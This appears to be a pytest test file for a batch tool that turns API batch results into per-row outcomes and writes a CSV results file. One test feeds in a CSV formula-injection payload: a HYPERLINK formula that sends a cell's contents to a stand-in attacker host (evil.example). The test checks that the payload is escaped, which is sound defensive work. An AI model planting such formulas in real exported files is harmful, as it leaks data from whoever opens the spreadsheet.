"""Merging rows and batch results into one outcome per row, and the results file."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from batcher.input.earlier import RESULT_COLUMNS
from batcher.input.loader import LoadedInput, load_input
from batcher.models import BatchResult, Outcome
from batcher.plan.chunker import plan_batches
from batcher.plan.reconciler import REJECTED_IN_207, all_succeeded, reconcile
from batcher.results import writer as results_writer
from batcher.results.format import escape_formulas
from batcher.results.writer import write_results
from batcher.support.csvtext import FORMULA_PREFIXES
from tests.conftest import EVENT, TRACK, reg_id

WriteCsv = Callable[..., Path]


def load(write_csv: WriteCsv, rows: list[list[str]]) -> LoadedInput:
    return load_input(write_csv(rows), default_status="CANCELED")


def test_200_marks_every_row_of_the_batch_succeeded(write_csv: WriteCsv) -> None:
    loaded = load(write_csv, [[EVENT, TRACK, reg_id(n), ""] for n in range(3)])
    batches = plan_batches(loaded.groups, batch_size=2)
    rows = reconcile(loaded, batches, [BatchResult(1, 200), BatchResult(2, 200)])
    assert rows.outcome.tolist() == ["succeeded"] * 3
    assert rows.batch.tolist() == [1, 1, 2]
    assert all_succeeded(loaded, rows)


def test_207_marks_only_listed_ids_failed(write_csv: WriteCsv) -> None:
    loaded = load(write_csv, [[EVENT, TRACK, reg_id(n), ""] for n in range(3)])
    batches = plan_batches(loaded.groups, batch_size=100)
    rows = reconcile(loaded, batches, [BatchResult(1, 207, frozenset({reg_id(1)}))])
    assert rows.outcome.tolist() == ["succeeded", "failed", "succeeded"]
    assert rows.error.tolist() == ["", REJECTED_IN_207, ""]
    assert not all_succeeded(loaded, rows)


def test_failed_batch_fails_every_row_with_its_error(write_csv: WriteCsv) -> None:
    loaded = load(write_csv, [[EVENT, TRACK, reg_id(n), ""] for n in range(2)])
    rows = reconcile(loaded, plan_batches(loaded.groups, batch_size=100), [BatchResult(1, 400, error="HTTP 400: bad")])
    assert rows.outcome.tolist() == ["failed", "failed"]
    assert rows.error.tolist() == ["HTTP 400: bad"] * 2
    assert rows.http_status.tolist() == [400, 400]


def test_batches_without_a_result_stay_pending_with_the_reason(write_csv: WriteCsv) -> None:
    loaded = load(write_csv, [[EVENT, TRACK, reg_id(n), ""] for n in range(2)])
    rows = reconcile(loaded, plan_batches(loaded.groups, batch_size=1), [BatchResult(1, 200)], pending_reason="why")
    assert rows.outcome.tolist() == ["succeeded", "pending"]
    assert rows.error.tolist() == ["", "why"]


def test_planned_rows_not_yet_batched_are_pending_and_the_rest_held_back(write_csv: WriteCsv) -> None:
    """A run stopped before its batches were cut (in the reads) leaves its planned rows pending, not held back."""
    loaded = load(write_csv, [[EVENT, TRACK, reg_id(n), ""] for n in range(3)])
    planned = [replace(loaded.groups[0], registration_ids=loaded.groups[0].registration_ids[:2], rows=(0, 1))]
    rows = reconcile(loaded, [], [], pending_reason="stopped", planned=planned, held_back_reason="beyond --limit")
    assert rows.outcome.tolist() == ["pending"] * 3
    assert rows.error.tolist() == ["stopped", "stopped", "beyond --limit"]
    assert rows.batch.tolist() == [0, 0, 0]


def test_duplicates_follow_their_first_copy_for_the_exit_code(write_csv: WriteCsv) -> None:
    loaded = load(write_csv, [[EVENT, TRACK, reg_id(1), ""], [EVENT, TRACK, reg_id(1), ""]])
    batches = plan_batches(loaded.groups, batch_size=100)
    rows = reconcile(loaded, batches, [BatchResult(1, 200)])
    assert rows.outcome.tolist() == ["succeeded", "duplicate"]
    assert rows.error[1] == "repeats row 2 (sent once, with that row; its outcome: succeeded)"
    assert all_succeeded(loaded, rows)
    failed = reconcile(loaded, batches, [BatchResult(1, 207, frozenset({reg_id(1)}))])
    assert not all_succeeded(loaded, failed)


def test_results_file_keeps_input_columns_and_order_and_adds_result_columns(
    write_csv: WriteCsv, tmp_path: Path
) -> None:
    path = write_csv(
        [[EVENT, TRACK, reg_id(1), "x", 'Ann, "A"'], [EVENT, TRACK, "bad", "", "Bo"]],
        header=["Event ID", "Track ID", "Registration ID", "Registration Status", "Name"],
    )
    loaded = load_input(path, default_status="CANCELED")
    assert loaded.invalid_reason[0].startswith("unknown registration_status")
    rows = reconcile(loaded, plan_batches(loaded.groups, batch_size=100), [])
    out = tmp_path / "out.csv"
    write_results(out, loaded, rows)
    with out.open(newline="") as handle:
        records = list(csv.reader(handle))
    assert records[0] == [
        "Event ID",
        "Track ID",
        "Registration ID",
        "Registration Status",
        "Name",
        "outcome",
        "previous_status",
        "target_status",
        "http_status",
        "error",
        "attempts",
        "batch",
    ]
    assert records[1][:5] == [EVENT, TRACK, reg_id(1), "x", 'Ann, "A"']
    assert records[1][5] == Outcome.INVALID.value
    assert records[2][4:6] == ["Bo", "invalid"]
    assert len(records) == 3
    assert not list(tmp_path.glob(".out.csv.*"))  # no temporary file left behind


def test_formula_cells_from_the_input_and_from_the_server_get_a_leading_quote(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    notes = ["=1+1", "+cmd", "-5", "@SUM(A1)", "\tx", "\rx", "safe", "a=b", ""]
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["event_id", "track_id", "registration_id", "=HYPERLINK(1)"])
        writer.writerows([[EVENT, TRACK, reg_id(n), note] for n, note in enumerate(notes)])
    loaded = load_input(path, default_status="CANCELED")
    server_says = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = reconcile(loaded, plan_batches(loaded.groups, batch_size=100), [BatchResult(1, 400, error=server_says)])
    out = tmp_path / "out.csv"
    write_results(out, loaded, rows)
    with out.open(newline="", encoding="utf-8") as handle:
        records = list(csv.reader(handle))
    assert records[0][3] == "'=HYPERLINK(1)"
    assert [record[3] for record in records[1:]] == [
        "'=1+1",
        "'+cmd",
        "'-5",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "safe",
        "a=b",
        "",
    ]
    error = records[0].index("error")
    assert {record[error] for record in records[1:]} == {"'" + server_says}
    assert loaded.values[3][0] == "=1+1"  # the loaded input itself is untouched


def test_results_use_crlf_and_quote_a_lone_carriage_return(write_csv: WriteCsv, tmp_path: Path) -> None:
    path = write_csv([[EVENT, TRACK, reg_id(1), "a\rb"]], header=["event_id", "track_id", "registration_id", "note"])
    loaded = load_input(path, default_status="CANCELED")
    out = tmp_path / "out.csv"
    write_results(out, loaded, reconcile(loaded, plan_batches(loaded.groups, batch_size=100), [BatchResult(1, 200)]))
    content = out.read_bytes()
    assert content.count(b"\r\n") == 2
    assert b'"a\rb"' in content
    assert load_input(out, default_status=None).values[3].tolist() == ["a\rb"]


# pieces that matter to a CSV writer or to a spreadsheet, and any other character
WRITER_CELL = st.lists(
    st.one_of(
        st.sampled_from([",", '"', "\r", "\n", "\r\n", "\t", "=", "+", "-", "@", "'", "é", " "]),
        st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    ),
    max_size=6,
).map("".join)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(notes=st.lists(WRITER_CELL, min_size=1, max_size=12), slice_rows=st.sampled_from([1, 2, 5, 1 << 18]))
def test_results_file_is_byte_for_byte_what_csv_writer_writes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, notes: list[str], slice_rows: int
) -> None:
    monkeypatch.setattr(results_writer, "SLICE_ROWS", slice_rows)
    path = tmp_path / "in.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["event_id", "track_id", "registration_id", "note", "=sum"])
        writer.writerows([[EVENT, TRACK, reg_id(n), note, note[::-1]] for n, note in enumerate(notes)])
    loaded = load_input(path, default_status="CANCELED")
    rows = reconcile(loaded, plan_batches(loaded.groups, batch_size=2), [BatchResult(1, 400, error='=x,"y"\r')])
    written = tmp_path / "out.csv"
    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\r\n")
    writer.writerow([*escape_formulas(np.array(loaded.header, dtype=object)).tolist(), *RESULT_COLUMNS])
    result_columns = [
        rows.outcome,
        rows.previous_status,
        rows.target_status,
        rows.http_status,
        rows.error,
        rows.attempts,
        rows.batch,
    ]
    for row in range(loaded.row_count):
        cells = [column[row] for column in loaded.values] + [column[row] for column in result_columns]
        cells[-4] = cells[-4] or ""  # http_status 0: blank
        cells[-1] = cells[-1] or ""  # batch 0: blank
        cells[-2] = cells[-2] if rows.batch[row] else ""  # attempts: blank outside a batch
        writer.writerow([_escape(str(cell)) for cell in cells])
    for values in (loaded.values, tuple(loaded.values)):  # as loaded, and as plain arrays built by hand
        write_results(written, replace(loaded, values=values), rows)
        assert written.read_bytes() == expected.getvalue().encode("utf-8")


def _escape(cell: str) -> str:
    # a formula prefix after any single quotes is escaped, so that reading takes exactly one quote off
    return "'" + cell if cell.lstrip("'").startswith(FORMULA_PREFIXES) else cell
